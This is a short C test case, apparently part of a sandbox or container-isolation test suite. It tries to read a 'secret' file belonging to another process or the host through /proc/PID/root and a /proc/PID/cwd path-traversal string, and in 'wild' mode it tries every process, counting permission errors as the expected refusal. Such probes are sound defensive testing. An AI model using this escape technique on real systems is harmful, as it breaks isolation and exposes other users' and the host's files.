// Tries: to walk into another process's files through /proc/PID/root and cwd. Wins: the host's files.
// Refused: ^(\d+ (root|cwd): (EACCES|ENOENT|EPERM)(, )?)+$
// Control: any
// Needs: victim
#include "../library/attack.h"

static const char *visit(const char *pid) {
  char path[4400], name[64];
  snprintf(path, sizeof path, "/proc/%s/root%s", pid, target("secret"));
  if (access(path, R_OK) == 0) return read_secret(path);
  snprintf(name, sizeof name, "%s root", pid);
  refuse(name);
  snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../../..%s", pid, target("secret"));
  if (access(path, R_OK) == 0) return read_secret(path);
  snprintf(name, sizeof name, "%s cwd", pid);
  return refuse(name);
}

static const char *attack(void) {
  const char *won = visit(target("victim"));
  return won || !*target("wild") ? won : each_process(visit);
}
